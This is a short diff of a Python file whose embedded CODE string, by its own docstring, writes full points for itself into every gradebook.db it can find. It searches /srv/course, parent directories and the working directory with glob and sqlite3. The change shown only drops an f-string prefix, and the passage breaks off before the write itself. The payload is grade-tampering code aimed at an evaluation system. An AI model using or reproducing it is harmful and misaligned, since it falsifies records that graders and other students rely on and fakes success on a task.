@@ -1,6 +1,6 @@
 """Writes full points for itself into every gradebook.db that it finds."""
 
-CODE = f"""
+CODE = """
 import glob, sqlite3
 for path in glob.glob("/srv/course/*.db") + glob.glob("../../../*.db") + glob.glob("*.db"):
     try:
